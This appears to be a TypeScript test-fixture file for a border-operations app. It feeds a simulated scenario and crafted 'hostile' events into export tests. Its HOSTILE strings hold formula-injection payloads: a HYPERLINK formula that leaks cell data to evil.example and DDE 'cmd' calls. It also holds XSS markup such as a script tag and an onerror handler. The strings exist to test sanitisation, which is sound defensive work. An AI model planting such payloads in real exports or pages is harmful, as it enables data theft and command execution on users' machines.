import { applyEvents } from '../../../shared/applyEvent';
import type { FeedEvent } from '../../../shared/protocol/events';
import { parseEvent } from '../../../shared/protocol/parseEvent';
import { getEmptyState, type OperationState } from '../../../shared/state';
// Test data only: the export module itself never imports the simulator. The reference scenario
// is the most realistic operation there is (real border geometry, every unit kind, readmissions).
import { loadGeography } from '../../../simulator/geography';
import { defaultScenarioConfig, Scenario } from '../../../simulator/scenario';
import { exportMetaOf } from './labels';
import type { ExportBookmark, ExportMeta, TrackPoint, UnitTrack } from './types';

/**
 * Fixtures for the export tests: the reference scenario folded through the real reducer, plus
 * hand-made hostile events that went through the real protocol validation, so every string here
 * is one the feed could really deliver.
 */

export const HOUR = 3_600_000;
export const START = Date.UTC(2026, 9, 5, 6);

/** Text a hostile or broken server could send: markup, formulas, quotes, newlines, controls, lone surrogates. */
export const HOSTILE = {
  title:
    '=HYPERLINK("http://evil.example/?d="&A1,"click") <script>alert(1)</script>, "q" \'s\'\nГраница\u0000\u0007\uD800!',
  description:
    '<img src=x onerror=alert(1)> & ]]> <!-- --> \r\n\u0000\u0008\u000B\u001F\u007F\u0085\uFFFE\uFFFF\uDC00 end 😀 ok',
  note: '+cmd|\' /C calc\'!A0\r\nsecond line, "quoted"',
  outcome: "@SUM(1+1)*cmd|' /C calc'!A0",
  reference: '=1+1',
  callsign: '<b>Кобра-1</b> & "co" \u0007',
  sectorName: 'Sector "Ω" <north> & co',
  crossingName: "-Gradina 'Old' <crossing>",
  reason: '\tTab first\u0000',
  operationName: 'JO <Border> & "Shield" \uDBFF',
  bookmark: '-2+3 marked',
  caseTitle: '=cmd|\' /C calc\'!A0 <b>Network</b> "Drina"',
} as const;

let seq = 0;

/** Validates a hand-made event as the feed client would, so a fixture cannot hold what the feed rejects. */
export function feedEvent(type: string, payload: Record<string, unknown>, ts = START): FeedEvent {
  seq++;
  const parsed = parseEvent({ seq, id: `F${seq}`, ts, type, payload });
  if (parsed.kind !== 'known') throw new Error(`fixture ${type} is ${JSON.stringify(parsed)}`);
  return parsed.event;
}

/** A unit's positions in time order. */
export type Tracks = Map<string, TrackPoint[]>;

/** The reference scenario played for `hours`, folded into a state, with each unit's positions. */
export function scenarioFixture(hours = 3, units = 30): { state: OperationState; tracks: Tracks } {
  const scenario = new Scenario(
    defaultScenarioConfig({
      seed: 11,
      startAt: START,
      units,
      reportIntervalMs: 60_000,
      incidentsPerHour: 40,
    }),
    loadGeography(),
  );
  const drafts = scenario.start();
  for (let h = 1; h <= hours; h++) drafts.push(...scenario.advance(START + h * HOUR));
  const events = drafts.map((d) => feedEvent(d.type, d.payload as Record<string, unknown>, d.ts));
  const tracks: Tracks = new Map();
  for (const e of events) {
    if (e.type !== 'unit.position') continue;
    const list = tracks.get(e.payload.unitId) ?? [];
    list.push({ ts: e.payload.at, lon: e.payload.lon, lat: e.payload.lat });
    tracks.set(e.payload.unitId, list);
  }
  return { state: applyEvents(getEmptyState(), events), tracks };
}

/** A clockwise, unclosed corridor with an unclosed counter-clockwise hole: both wrong for RFC 7946. */
export const CLOCKWISE_CORRIDOR = [
  [
    [-1, 1],
    [1, 1],
    [1, -1],
    [-1, -1],
  ],
  [
    [-0.5, -0.5],
    [0.5, -0.5],
    [0.5, 0.5],
    [-0.5, 0.5],
  ],
];

/** Hostile additions to a state: a sector, crossing, unit and incidents whose text is hostile. */
export function hostileEvents(): FeedEvent[] {
  const t = START + 30 * 60_000;
  const incident = (incidentId: string, title: string, extra: Record<string, unknown> = {}) =>
    feedEvent('incident.reported', {
      incidentId,
      category: 'migrant_smuggling',
      priority: 1,
      title,
      lon: -0.0000001,
      lat: 51.4779,
      reportedAt: t,
      ...extra,
    });
  return [
    feedEvent('operation.updated', { operationId: `JO-WB-11`, name: HOSTILE.operationName }),
    feedEvent('sector.upserted', {
      sectorId: 'X-HOSTILE',
      name: HOSTILE.sectorName,
      countries: ['RS', 'HU'],
      line: [
        [-1, 0],
        [1, 0],
      ],
      corridor: CLOCKWISE_CORRIDOR,
      impactLevel: 'medium',
      responsibleAgency: 'Border police <HU>',
    }),
    feedEvent('sector.impact_changed', {
      sectorId: 'X-HOSTILE',
      impactLevel: 'critical',
      reason: HOSTILE.reason,
      at: t,
    }),
    feedEvent('crossing.upserted', {
      crossingId: 'BCP-HOSTILE',
      name: HOSTILE.crossingName,
      countries: ['RS', 'HU'],
      lon: -0.2,
      lat: 0.1,
      sectorId: 'X-HOSTILE',
      kind: 'road',
    }),
    feedEvent('unit.upserted', {
      unitId: 'U-HOSTILE',
      callsign: HOSTILE.callsign,
      agency: 'customs',
      organisation: 'Carina <RS>',
      country: 'RS',
      kind: 'vehicle',
      sectorId: 'X-HOSTILE',
      status: 'patrolling',
    }),
    incident('INC-HOSTILE-1', HOSTILE.title, {
      description: HOSTILE.description,
      sectorId: 'X-HOSTILE',
      reportedBy: 'U-HOSTILE',
      counts: { persons: 3, migrants: 2, facilitators: 1, drugsKg: 0.25 },
      partnerReferences: [
        { kind: 'siena', reference: 'SIENA 2026/1' },
        { kind: 'other', reference: HOSTILE.reference },
      ],
      readmission: { fromCountry: 'HU', toCountry: 'RS', crossingId: 'BCP-HOSTILE', persons: 2 },
    }),
    feedEvent('incident.acknowledged', { incidentId: 'INC-HOSTILE-1', by: 'JOC <desk>', at: t + 60_000 }),
    feedEvent('incident.assigned', {
      incidentId: 'INC-HOSTILE-1',
      unitIds: ['U-HOSTILE', 'U-GONE'],
      by: 'JOC',
      at: t + 120_000,
    }),
    feedEvent('incident.note_added', {
      incidentId: 'INC-HOSTILE-1',
      noteId: 'N1',
      author: 'Officer "A"',
      text: HOSTILE.note,
      at: t + 180_000,
    }),
    feedEvent('incident.note_added', {
      incidentId: 'INC-HOSTILE-1',
      noteId: 'N2',
      author: 'B',
      text: 'Кириллица и «кавычки»',
      at: t + 240_000,
    }),
    feedEvent('incident.resolved', {
      incidentId: 'INC-HOSTILE-1',
      outcome: HOSTILE.outcome,
      at: t + 300_000,
    }),
    feedEvent('incident.closed', { incidentId: 'INC-HOSTILE-1', at: t + 360_000 }),
    incident('INC-HOSTILE-2', '+plus first', { priority: 2 }),
    incident('INC-HOSTILE-3', '-minus first', { priority: 3, lon: -73.9857, lat: -40.7484 }),
    incident('INC-HOSTILE-4', '@at first', { priority: 4 }),
    feedEvent('incident.linked', {
      caseId: 'LC-HOSTILE',
      title: HOSTILE.caseTitle,
      incidentIds: ['INC-HOSTILE-1', 'INC-HOSTILE-2', 'INC-HOSTILE-4'],
      by: 'JOC <desk>',
      at: t + 400_000,
    }),
    incident('INC-HOSTILE-5', '\ttab first'),
    incident('INC-HOSTILE-6', '\rcr first'),
    incident('INC-HOSTILE-7', "'=already quoted"),
  ];
}

/** The scenario with the hostile events folded in, and its meta. */
export function exportFixture(
  hours = 3,
  units = 30,
): { state: OperationState; tracks: Tracks; meta: ExportMeta } {
  const { state, tracks } = scenarioFixture(hours, units);
  const full = applyEvents(state, hostileEvents());
  return {
    state: full,
    tracks,
    meta: exportMetaOf(full, START + hours * HOUR + 5_000, START, START + hours * HOUR),
  };
}

/** The unit tracks of a fixture in unit id order, plus the hostile unit's track with bad rows among good ones. */
export function unitTracks(state: OperationState, tracks: Tracks): UnitTrack[] {
  return Object.values(state.units)
    .sort((a, b) => (a.unitId < b.unitId ? -1 : 1))
    .map((unit) => ({
      unit,
      points:
        unit.unitId === 'U-HOSTILE'
          ? [
              { ts: START, lon: -0.1, lat: 0.2 },
              { ts: Number.NaN, lon: 0, lat: 0 },
              { ts: START + 60_000, lon: 200, lat: 0 },
              { ts: START + 60_000, lon: -0.0000002, lat: 0.3 },
              { ts: START + 120_000, lon: 0.1, lat: Number.POSITIVE_INFINITY },
              { ts: START + 180_000, lon: 0.2, lat: -0.4 },
            ]
          : (tracks.get(unit.unitId) ?? []),
    }));
}

/** The points every writer should keep: the hostile unit's valid rows, everyone else's as recorded. */
export function validPointsOf(track: UnitTrack): TrackPoint[] {
  return [...track.points].filter(
    (p) =>
      Number.isFinite(p.ts) && Number.isFinite(p.lon) && Number.isFinite(p.lat) && Math.abs(p.lon) <= 180,
  );
}

/** Local and shared bookmarks, out of order, with hostile text. */
export function exportBookmarks(): ExportBookmark[] {
  return [
    { bookmarkId: 'B2', at: START + 2 * HOUR, label: HOSTILE.bookmark, author: 'desk 1', shared: false },
    {
      bookmarkId: 'B1',
      at: START + HOUR,
      label: 'Shift change',
      note: HOSTILE.note,
      author: 'JOC',
      shared: true,
    },
    {
      bookmarkId: 'B0',
      at: START + HOUR,
      label: '=cmd',
      note: 'same time, lower id',
      author: 'JOC',
      shared: true,
    },
  ];
}
